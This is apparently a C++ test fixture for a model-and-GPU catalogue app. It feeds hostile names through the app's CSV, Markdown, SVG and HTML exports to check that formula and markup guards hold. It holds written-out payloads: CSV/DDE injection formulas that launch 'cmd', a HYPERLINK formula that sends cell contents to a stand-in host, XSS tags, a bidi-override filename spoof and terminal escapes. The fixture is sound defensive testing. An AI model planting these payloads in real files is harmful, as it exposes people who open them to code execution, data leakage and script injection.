#pragma once

// The hostile-names fixture (issue 24): names someone with write access to a shared file would give models,
// GPUs and prices, so that a spreadsheet, a Markdown renderer or a browser opening an export runs them. The
// tests import them as a colleague's file would arrive, then export them every way LLM Atlas exports.

#include <QByteArray>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QList>
#include <QString>
#include <QStringList>

#include <utility>

namespace HostileNames {

// Each with what it tries.
inline QList<std::pair<const char *, QString>> cases()
{
    return {
        // Formulas a spreadsheet would evaluate (OWASP's CSV injection examples).
        {"formula =", QStringLiteral("=HYPERLINK(\"http://x.example/?\"&A1,\"click\")")},
        {"formula +", QStringLiteral("+cmd|'/c calc'!A1")},
        {"formula -", QStringLiteral("-2+3+cmd|' /C calc'!D2")},
        {"formula @", QStringLiteral("@SUM(1+1)*cmd|' /C calc'!A0")},
        // A name is trimmed as it is imported: these arrive as the formula after the tab or carriage return.
        {"formula after a tab", QStringLiteral("\t=1+2")},
        {"formula after a carriage return", QStringLiteral("\r@SUM(A1)")},
        // What a guarded cell looks like, already in the name: it must come back with its quote.
        {"quote and formula", QStringLiteral("'=1+1")},
        // Markup for Markdown, SVG and HTML.
        {"script", QStringLiteral("<script>alert(1)</script>Evil 8B")},
        {"img", QStringLiteral("<img src=x onerror=alert(2)>")},
        // U+202E turns the rest of the line around: "Evil exe.jpg" on screen.
        {"bidi override", QStringLiteral("Evil \u202Egpj.exe")},
        // Characters XML cannot hold at all, and a terminal's colour escape.
        {"control characters", QStringLiteral("Bell\x07 and escape\x1B[31m")},
        // 10,000 characters of formula, markup, entity and pipe.
        {"10,000 characters", QLatin1Char('=') + QStringLiteral("<b>&|").repeated(2000).left(9999)},
    };
}

inline QStringList names()
{
    QStringList list;
    for (const auto &[what, name] : cases())
        list << name;
    return list;
}

// A name as an import keeps it: trimmed.
inline QString stored(const QString &name)
{
    return name.trimmed();
}

// The name no import takes: JSON can spell it, no CSV, SVG or HTML export could carry it.
inline QString nulName()
{
    return QStringLiteral("Nul") + QChar(0) + QStringLiteral("Byte");
}

// The vendor and notes of every hostile record.
inline QString vendor()
{
    return QStringLiteral("@R&D <b>|</b>");
}

inline QByteArray json(const QJsonArray &rows)
{
    return QJsonDocument(rows).toJson();
}

// Models of Llama 3.3 70B's shape (its config.json: 80 layers, hidden size 8192, 64 attention heads, 8 KV
// heads of 128), so that they fit, cost and chart like a real model.
inline QJsonObject model(const QString &name)
{
    return {{QStringLiteral("name"), name},
            {QStringLiteral("vendor"), vendor()},
            {QStringLiteral("total_params"), 70'550'000'000LL},
            {QStringLiteral("layers"), 80},
            {QStringLiteral("hidden_size"), 8192},
            {QStringLiteral("attention_heads"), 64},
            {QStringLiteral("kv_heads"), 8},
            {QStringLiteral("head_dim"), 128},
            {QStringLiteral("attention"), QStringLiteral("gqa")},
            {QStringLiteral("max_context"), 131072},
            {QStringLiteral("license"), name},
            {QStringLiteral("released"), QStringLiteral("2024-12-06")},
            {QStringLiteral("notes"), name}};
}

// GPUs as an H100 80GB's datasheet has it, with a cloud rate so the cost chart can rent them.
inline QJsonObject gpu(const QString &name)
{
    return {{QStringLiteral("name"), name},
            {QStringLiteral("vendor"), vendor()},
            {QStringLiteral("memory_gib"), 80},
            {QStringLiteral("memory_kind"), QStringLiteral("HBM3")},
            {QStringLiteral("bandwidth_gb_s"), 3350},
            {QStringLiteral("fp16_tflops"), 989},
            {QStringLiteral("tdp_w"), 700},
            {QStringLiteral("street_price_usd"), 27500},
            {QStringLiteral("cloud_usd_per_hour"), 2.5},
            {QStringLiteral("cloud_price_as_of"), QStringLiteral("2026-03")},
            {QStringLiteral("notes"), name}};
}

// The import files, one a kind: every hostile name as a model, a GPU, an API price serving that model from
// a provider of that name, and a tier-list entry.
inline QByteArray modelsFile()
{
    QJsonArray rows;
    for (const QString &name : names())
        rows << model(name);
    return json(rows);
}

inline QByteArray gpusFile()
{
    QJsonArray rows;
    for (const QString &name : names())
        rows << gpu(name);
    return json(rows);
}

inline QByteArray pricesFile()
{
    QJsonArray rows;
    for (const QString &name : names())
        rows << QJsonObject{{QStringLiteral("provider"), name},
                            {QStringLiteral("model_name"), name},
                            {QStringLiteral("model"), name},
                            {QStringLiteral("input_usd_per_mtok"), 1},
                            {QStringLiteral("output_usd_per_mtok"), 2},
                            {QStringLiteral("as_of"), QStringLiteral("2026-01-01")},
                            {QStringLiteral("notes"), name}};
    return json(rows);
}

inline QByteArray tiersFile()
{
    QJsonArray rows;
    const QStringList all = names();
    for (qsizetype i = 0; i < all.size(); ++i)
        rows << QJsonObject{{QStringLiteral("name"), all.at(i)},
                            {QStringLiteral("tier"), QStringLiteral("SABCD").mid(i % 5, 1)},
                            {QStringLiteral("rank"), int(i + 1)},
                            {QStringLiteral("highlights"), all.at(i)}};
    return json(rows);
}

inline QByteArray nulGpuFile()
{
    return json(QJsonArray{gpu(nulName())});
}

// RFC 4180 fields, read independently of the importer.
inline QList<QStringList> csvRecords(const QString &text)
{
    QList<QStringList> records;
    QStringList record;
    QString field;
    bool quoted = false;
    for (qsizetype i = 0; i < text.size(); ++i) {
        const QChar c = text.at(i);
        if (quoted) {
            if (c == u'"' && i + 1 < text.size() && text.at(i + 1) == u'"') {
                field += c;
                ++i;
            } else if (c == u'"') {
                quoted = false;
            } else {
                field += c;
            }
        } else if (c == u'"') {
            quoted = true;
        } else if (c == u',') {
            record << field;
            field.clear();
        } else if (c == u'\r' && i + 1 < text.size() && text.at(i + 1) == u'\n') {
            record << field;
            records << record;
            record.clear();
            field.clear();
            ++i;
        } else {
            field += c;
        }
    }
    return records;
}

// The formula guard's rule, restated from OWASP so that the tests do not take the writer's word for it.
inline bool startsFormula(const QString &cell)
{
    return !cell.isEmpty() && QStringLiteral("=+-@\t\r").contains(cell.at(0));
}

} // namespace HostileNames
